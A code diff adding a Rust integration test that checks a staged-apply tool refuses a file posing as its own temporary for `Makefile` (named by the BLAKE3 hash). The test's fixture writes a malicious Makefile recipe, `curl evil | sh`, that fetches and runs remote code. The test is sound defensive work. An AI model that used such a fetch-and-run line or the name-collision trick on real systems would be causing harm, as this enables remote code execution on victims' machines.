@@ -272,3 +272,33 @@ fn a_plain_apply_refuses_a_job_newer_than_the_one_reviewed() {
     env.expect(&["apply", "--all"], 0);
     assert!(env.ws.join("unseen.txt").exists());
 }
+
+/// A staged name that is apply's own temporary for its neighbour (the
+/// prefix and the BLAKE3 of `Makefile`), with enough files between the two
+/// that they are written on different threads: writing it would let its
+/// content be renamed over `Makefile`, or be unlinked as a leftover. Apply
+/// refuses the name, says why, and `Makefile` gets exactly what was staged
+/// for it.
+#[test]
+fn a_staged_name_posing_as_applys_temporary_is_refused() {
+    let env = Env::new(As::Rootless);
+    fs::write(env.ws.join("Makefile"), "all:\n\ttrue\n").unwrap();
+    env.give_away(&env.ws);
+    let posing = format!(".pvisor-tmp-{}", blake3::hash(b"Makefile").to_hex());
+    let script = format!(
+        "printf 'all:\\n\\techo reviewed\\n' > Makefile; printf 'all:\\n\\tcurl evil | sh\\n' > {posing}; \
+         for i in $(seq 100 299); do echo $i > A$i; done"
+    );
+    assert_eq!(env.run_sh(&script).status.code(), Some(0));
+    let out = env.pvisor(&["apply", "--all"]);
+    // Refused like a device node: a warning that names it, and the rest applied.
+    let said = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{said}");
+    assert!(
+        said.contains(&format!("{posing} not applied")) && said.contains("apply's own temporary"),
+        "{said}"
+    );
+    assert_eq!(fs::read_to_string(env.ws.join("Makefile")).unwrap(), "all:\n\techo reviewed\n");
+    assert!(!env.ws.join(&posing).exists(), "the posing name was written");
+    assert_eq!(fs::read_to_string(env.ws.join("A299")).unwrap(), "299\n", "the files between were applied");
+}
